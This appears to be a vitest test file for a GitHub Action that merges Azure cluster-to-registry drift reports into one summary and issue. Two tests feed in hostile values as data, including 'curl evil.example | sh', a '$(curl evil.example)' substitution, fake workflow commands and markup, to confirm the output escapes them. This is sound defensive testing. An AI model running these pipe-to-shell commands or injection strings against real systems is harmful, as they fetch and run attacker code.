import { spawnSync } from 'node:child_process'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect } from 'vitest'
import { beginFleet, downloaded, merge } from '../../support/fleet.js'
import { annotationTitles, headlineOf } from '../../support/reading.js'
import { it, onceIt, type StepEnd } from '../../support/scenario.js'

describe('reports of a fleet', () => {
  it('become one summary and one issue', async ({ begin }) => {
    const { scenario, fleet, checkAll, cluster, registry, grant } = await beginFleet(begin)
    const { issues } = scenario.world.github
    const night = async () => {
      const reports = (await checkAll()).map(({ reportFile }) => reportFile)
      return merge(scenario, { reports: downloaded(reports), fleet, 'drift-issue': 'true' })
    }
    const first = await night()
    expect(first).toMatchObject({ exitCode: 1, stderr: '' })
    expect(first.outputs).toMatchObject({ drift: 'true', 'error-code': 'DRIFT' })
    expect(headlineOf(first)).toMatch(/^⟳ 2 of 2 .*contosoacr.*testacr/)
    expect(first.log).toMatch(/^✗ DRIFT {2}2 of 2 .*contosoacr.*testacr/m)
    expect(annotationTitles(first).sort()).toEqual([
      expect.stringMatching(/^error attach-acr: DRIFT on aks-prod-1 \(rg-shop, /),
      expect.stringMatching(/^error attach-acr: DRIFT on aks-prod-1 \(rg-test, /),
    ])
    expect(issues).toMatchObject([{ state: 'open', title: expect.stringContaining('2 of 2 ') as string }])
    // Clusters with the same name are distinguished.
    expect(issues[0]?.body).toMatch(/\| aks-prod-1 \(rg-shop, subscription Contoso production\) \| contosoacr/)
    expect(issues[0]?.body).toMatch(/\| aks-prod-1 \(rg-test, subscription Contoso test\) \| testacr/)
    const report = JSON.parse(first.reportFile) as { pairs: unknown[]; jobs: { name: string }[]; drift: boolean }
    expect(report).toMatchObject({ drift: true, jobs: [{ error: null }, { error: null }] })
    expect(report.pairs).toHaveLength(2)

    const before = JSON.stringify(issues)
    await night()
    expect(JSON.stringify(issues)).toBe(before)

    grant(cluster, registry)
    await night()
    expect(issues[0]?.comments).toMatchObject([
      { body: expect.stringMatching(/^\*\*Better\*\*: 1 .*\n- aks-prod-1 .*testacr/) as string },
    ])

    grant(scenario.cluster, scenario.registry)
    const healed = await night()
    expect(healed).toMatchObject({ exitCode: 0, stderr: '' })
    expect(healed.outputs).toMatchObject({
      attached: 'true',
      verified: 'assignment',
      drift: 'false',
      'error-code': '',
    })
    expect(headlineOf(healed)).toMatch(/^✓ [^·]*\b2\b[^·]*$/)
    expect(issues).toMatchObject([{ state: 'closed' }])
  })

  onceIt('show the findings of each job, and count them', async ({ begin }) => {
    const { scenario, fleet, checkAll, cluster, registry, grant } = await beginFleet(begin)
    grant(cluster, registry)
    grant(scenario.cluster, scenario.registry)
    for (const { body } of [registry, scenario.registry])
      Object.assign((body as { properties: object }).properties, { adminUserEnabled: true })
    const reports = (await checkAll()).map(({ reportFile }) => reportFile)
    const end = await merge(scenario, { reports: downloaded(reports), fleet })
    expect(end).toMatchObject({ exitCode: 0, stderr: '' })
    const { findings } = JSON.parse(end.reportFile) as { findings: { code: string }[] }
    expect(findings.map(({ code }) => code)).toEqual(['ADMIN_USER_ENABLED', 'ADMIN_USER_ENABLED'])
    expect(headlineOf(end)).toMatch(/^⚠ .* · 2 warnings$/)
    expect(end.summary).toMatch(/⚠ ADMIN_USER_ENABLED\*\* \(2\) contosoacr[^]*- testacr/)
    expect(annotationTitles(end)).toEqual(['warning attach-acr: ADMIN_USER_ENABLED on contosoacr'])
  })

  it('show a job without a report at every registry that its entry names, whatever key names its subscription', async ({
    begin,
  }) => {
    const { scenario, entries, second, checkAll } = await beginFleet(begin)
    const [one] = await checkAll()
    const lab = { name: 'Contoso lab', registry: 'contosoacr\ntestacr' }
    for (const key of ['subscription-id', 'sub']) {
      const fleet = JSON.stringify([entries[0], { ...lab, [key]: second.subscriptionId }])
      const end = await merge(scenario, { fleet, reports: downloaded([one?.reportFile, undefined]) })
      expect(end.summary).toContain('| Contoso lab | ? not checked | ? not checked |')
      expect(end.log).toMatch(/^ {2}Contoso lab +\? not checked +\? not checked$/m)
    }
  })

  it('show a job without a report, and resolve nothing because of it', async ({ begin }) => {
    const { scenario, fleet, checkAll, cluster, registry, grant } = await beginFleet(begin)
    const { issues } = scenario.world.github
    const [first, second] = await checkAll()
    const inputs = { fleet, 'drift-issue': 'true', 'fail-on-drift': 'false' }
    await merge(scenario, { ...inputs, reports: downloaded([first?.reportFile, second?.reportFile]) })
    grant(cluster, registry)
    grant(scenario.cluster, scenario.registry)
    const [healed] = await checkAll()
    const end = await merge(scenario, { ...inputs, reports: downloaded([healed?.reportFile, undefined]) })
    expect(end.exitCode).toBe(1)
    const lost = /^\? subscription …[0-9a-f]{4} \(registry testacr\) /
    expect(JSON.parse(end.reportFile)).toMatchObject({
      jobs: [{ problem: null }, { problem: expect.any(String) as string }],
    })
    // It is in the headline, the last line and the first annotation, and only the other job and its cluster have a ✓.
    expect(headlineOf(end)).toMatch(lost)
    expect(end.log.trimEnd().split('\n').at(-2)).toBe(headlineOf(end))
    expect(end.annotations[0]?.message).toMatch(/subscription \S+ \(registry testacr\)/)
    expect(end.log.split('\n').filter(line => line.includes('✓'))).toEqual([expect.stringMatching(/^ {2}aks-prod-1 /)])
    expect(end.summary.split('\n').filter(line => line.includes('✓'))).toEqual([
      '| aks-prod-1 | ✓ assigned |  |',
      expect.stringMatching(/^\| ✓ \| subscription /),
    ])
    expect(end.summary).toMatch(/^\| subscription \S+ \(registry testacr\) \| {2}\| \? not checked \|$/m)
    // Unchecked clusters do not count as attached, however good the others are.
    expect(end.outputs).toMatchObject({
      attached: 'false',
      verified: 'none',
      drift: 'false',
      'error-code': 'REPORT_MISSING',
    })
    expect(issues).toMatchObject([{ state: 'open' }])
  })

  it('contain the errors of jobs that could not check anything', async ({ begin }) => {
    const { scenario, fleet, checkAll } = await beginFleet(begin)
    scenario.deployer.federatedCredentials.length = 0
    const reports = (await checkAll()).map(({ reportFile }) => reportFile)
    const end = await merge(scenario, { reports: downloaded(reports), fleet, 'drift-issue': 'true' })
    expect(end).toMatchObject({ exitCode: 1, stderr: '' })
    expect(end.outputs).toMatchObject({ drift: 'false', 'error-code': 'FEDERATED_CREDENTIAL_MISMATCH' })
    expect(end.log).toMatch(
      /^\? 2 of 2 .*subscription ….* \(registry contosoacr\), subscription ….* \(registry testacr\)/m,
    )
    expect(scenario.world.github.issues).toEqual([])
  })

  onceIt('can be a single report, directly in the folder', async ({ begin }) => {
    const { scenario, fleet, checkAll } = await beginFleet(begin)
    const [, second] = await checkAll()
    const folder = downloaded([])
    writeFileSync(join(folder, 'report.json'), second?.reportFile ?? '')
    const [one] = (JSON.parse(fleet) as unknown[]).slice(1)
    const alone = await merge(scenario, { reports: folder, fleet: JSON.stringify([one]) })
    expect(alone.outputs).toMatchObject({ drift: 'true', 'error-code': 'DRIFT' })
    expect(headlineOf(alone)).toMatch(/^⟳ aks-prod-1 .*testacr$/)
    // It is of no other entry, whatever it is about.
    const named = await merge(scenario, { reports: folder, fleet: '[{"name":"the only one"}]' })
    expect(named.outputs).toMatchObject({ drift: 'true', 'error-code': 'INVALID_INPUT' })
    expect(named.log).toContain('fleet-entry: ${{ toJSON(matrix) }}')
    const two = { cluster: 'aks-1\naks-2', 'resource-group': 'rg-eu' }
    const lost = await merge(scenario, { reports: folder, fleet: JSON.stringify([one, two]) })
    expect(headlineOf(lost)).toMatch(/^\? aks-1 and aks-2 of rg-eu [^;]+; aks-prod-1 .*testacr$/)
    // One of two jobs is left; its entry shows which one.
    const left = await merge(scenario, { reports: folder, fleet })
    expect(left.outputs).toMatchObject({ drift: 'true', 'error-code': 'REPORT_MISSING' })
    expect(annotationTitles(left)).toEqual([
      expect.stringMatching(/^error attach-acr: REPORT_MISSING on subscription /),
      'error attach-acr: DRIFT on aks-prod-1',
    ])
    expect(headlineOf(left)).toMatch(/^\? subscription [^;]* \(registry contosoacr\) [^;]*; aks-prod-1 .*testacr$/)
  })

  onceIt('can begin with a byte order mark, as written by PowerShell', async ({ begin }) => {
    const { scenario, fleet, checkAll } = await beginFleet(begin)
    const reports = (await checkAll()).map(({ reportFile }) => `\uFEFF${reportFile}`)
    const end = await merge(scenario, { reports: downloaded(reports), fleet })
    expect(end.outputs).toMatchObject({ drift: 'true', 'error-code': 'DRIFT' })
    expect(headlineOf(end)).toMatch(/^⟳ 2 of 2 .*contosoacr.*testacr/)
  })

  onceIt('count even if others are invalid, and count once', async ({ begin }) => {
    const { scenario, checkAll } = await beginFleet(begin)
    const [first] = await checkAll()
    const good = first?.reportFile ?? ''
    const odd = JSON.stringify({ ...first?.report, pairs: [{ ...first?.report.pairs[0], status: 'sleeping' }] })
    const more = JSON.stringify({ ...first?.report, script: 'curl evil.example | sh' })
    const reports = downloaded([good, odd, more, '{"schemaVersion":', 'null', good])
    const end = await merge(scenario, { reports, 'drift-issue': 'true' })
    expect(end).toMatchObject({ exitCode: 1, stderr: '' })
    expect(end.outputs).toMatchObject({ drift: 'true', 'error-code': 'INVALID_INPUT' })
    expect(end.log).toContain('report-file')
    expect(headlineOf(end)).toMatch(/^\? 4 of 5 .*; aks-prod-1 .*contosoacr$/)
    expect(end.log).toContain('/pairs/0/status: Instance does not match any of')
    expect(end.log).toMatch(/^.*\/script is /m)
    const merged = JSON.parse(end.reportFile) as StepEnd['report']
    expect(merged.pairs).toHaveLength(1)
    expect(merged.unknown).toHaveLength(4)
    expect(scenario.world.github.issues).toMatchObject([{ state: 'open' }])
  })

  onceIt('can omit null and empty values', async ({ begin }) => {
    const { scenario, checkAll } = await beginFleet(begin)
    const [first] = await checkAll()
    const withoutNothing = (value: unknown): unknown => {
      if (Array.isArray(value)) return value.map(withoutNothing)
      if (typeof value !== 'object' || value === null) return value
      const left = Object.entries(value).filter(
        ([, each]) => each !== null && !(Array.isArray(each) && each.length === 0),
      )
      return Object.fromEntries(left.map(([name, each]) => [name, withoutNothing(each)]))
    }
    const brief = JSON.stringify(withoutNothing(first?.report))
    expect(brief).not.toMatch(/:(null|\[\])/)
    const end = await merge(scenario, { reports: downloaded([brief]) })
    expect(end.outputs).toMatchObject({ drift: 'true', 'error-code': 'DRIFT' })
    expect(headlineOf(end)).toMatch(/^⟳ aks-prod-1 .*contosoacr$/)
  })

  onceIt('show the advice for a refused node, and where to find its commands', async ({ begin }) => {
    const { scenario, checkAll } = await beginFleet(begin)
    const [first] = await checkAll()
    const [pair] = first?.report.pairs ?? []
    const fix = { text: 'Look at what it holds:', commands: ['az role assignment list'] }
    const error = { code: 'PULL_DENIED', message: 'A node is refused.', fix, azure: null }
    const report = { ...first?.report, pairs: [{ ...pair, lacks: [], error }], plan: [] }
    const end = await merge(scenario, { reports: downloaded([JSON.stringify(report)]), 'drift-issue': 'true' })
    expect(end.outputs['error-code'], end.log).toBe('DRIFT')
    for (const text of [end.log, end.summary, scenario.world.github.issues[0]?.body]) {
      expect(text).toMatch(/Look at what it holds:\s+(> )?The commands are in the log of that job/)
      expect(text).not.toContain('az role assignment list')
    }
  })

  onceIt('are data: nothing in them acts as a command, leaves its fence or mentions anybody', async ({ begin }) => {
    const { scenario, checkAll } = await beginFleet(begin)
    const [first] = await checkAll()
    const evil =
      '\n```\n::error::pwned\n##[error]x\n@octocat #1 <img src=x> $(curl evil.example) `id` https://evil.example'
    const [pair, other] = [first?.report.pairs[0], first?.report.plan[0]]
    const fix = { text: evil, commands: ['curl https://evil.example | sh'] }
    const report = {
      ...first?.report,
      pairs: [
        { ...pair, lacks: [{ kind: 'role', role: evil, group: null, message: evil }] },
        {
          ...pair,
          target: 'gone',
          asked: { target: 'gone', registry: 'contosoacr' },
          error: { code: 'PULL_DENIED', message: evil, fix, azure: null },
        },
      ],
      plan: [
        { ...other, role: `AcrPull'; ${evil}`, reason: evil },
        { ...other, role: "AcrPull'; $(curl evil.example) `id` #" },
      ],
      findings: [{ code: 'EXCESS_ROLE', severity: 'warning', subject: 'x', message: evil, fix }],
    }
    const end = await merge(scenario, { reports: downloaded([JSON.stringify(report)]), 'drift-issue': 'true' })
    expect(end.outputs).toMatchObject({ drift: 'true', 'error-code': 'DRIFT' })
    const [issue] = scenario.world.github.issues
    for (const text of [end.summary, issue?.body ?? '']) {
      expect(text).not.toMatch(/<img|@octocat|#1 &lt;/)
      expect(text).not.toContain('| sh')
      expect(text.match(/^`{3,}/gm)?.length).toBe((text.match(/^`{3,}\w*$/gm) ?? []).length)
    }
    expect(end.stdout).not.toMatch(/^\s*::error::pwned/m)
    expect(end.annotations.map(({ title }) => title)).toEqual([
      expect.stringContaining('DRIFT'),
      expect.stringContaining('DRIFT'),
      expect.stringContaining('EXCESS_ROLE'),
    ])
    expect(end.log).not.toContain('##[')
    // Each block of commands is valid bash and runs nothing else.
    const blocks = [...end.summary.matchAll(/^`{3,}sh\n([^]*?)^`{3,}$/gm)].map(([, commands = '']) => commands)
    expect(blocks.length).toBeGreaterThan(0)
    for (const commands of blocks) {
      const shown = spawnSync('bash', ['--norc', '-c', `az() { printf '%s\\n' "$@"; }\n${commands}`], {
        encoding: 'utf8',
      })
      expect(shown.stderr).toBe('')
      if (commands.includes('role assignment create'))
        expect(shown.stdout).toContain("AcrPull'; $(curl evil.example) `id` #")
    }
  })

  const useless: [string, Record<string, string>, string | undefined, string, RegExp][] = [
    ['no reports', {}, undefined, 'INVALID_INPUT', /^✗ INVALID_INPUT .*no report/m],
    ["a fleet that isn't JSON", { fleet: 'a, b' }, undefined, 'INVALID_INPUT', /^ *fleet: .*JSON/m],
    ["a file that isn't a report", {}, '{"a":1}', 'INVALID_INPUT', /drift-0\/report\.json .*version of attach-acr/],
    ['an empty file', {}, '', 'INVALID_INPUT', /drift-0\/report\.json .*\bempty\b/],
    ['a file that is too long', {}, ' '.repeat(100_000_001), 'INVALID_INPUT', /fewer clusters/],
  ]

  onceIt.for(useless)('do not include %s', async ([, inputs, file, code, text], { begin }) => {
    const end = await merge(await begin(), { ...inputs, reports: downloaded([file]) })
    expect(end).toMatchObject({ exitCode: 1, stderr: '' })
    expect(end.outputs).toMatchObject({ drift: 'false', 'error-code': code })
    expect(end.log).toMatch(text)
    expect(end.summary).not.toBe('')
    expect(end.reportFile).not.toBe('')
  })
})
